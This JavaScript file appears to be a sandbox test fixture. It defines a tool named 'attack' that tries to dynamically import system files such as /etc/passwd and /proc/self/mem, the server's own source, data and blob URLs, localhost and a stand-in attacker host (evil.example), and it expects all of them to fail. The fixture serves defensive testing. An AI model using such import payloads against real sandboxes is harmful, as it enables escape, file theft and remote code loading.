// attack: Imports code and data by address: files, data, the network, blobs, and its own module once more.
// expect: ok
// result: {"imported":[]}

export default {
  tools: {
    attack: {
      description: "import urls",
      input: { type: "object" },
      async run() {
        const specifiers = ["file:///etc/passwd", "/proc/self/mem", "./server.js", "../server.js", "data:text/javascript,export default 1", "http://127.0.0.1/x.js", "https://evil.example/x.js", "blob:null/0", "", "#", "%00"];
        try {
          specifiers.push(URL.createObjectURL(new Blob(["export default 1"], { type: "text/javascript" })));
        } catch {}
        const imported = [];
        for (const specifier of specifiers) {
          try {
            await import(specifier);
            imported.push(specifier);
          } catch {}
        }
        return { imported };
      },
    },
  },
};
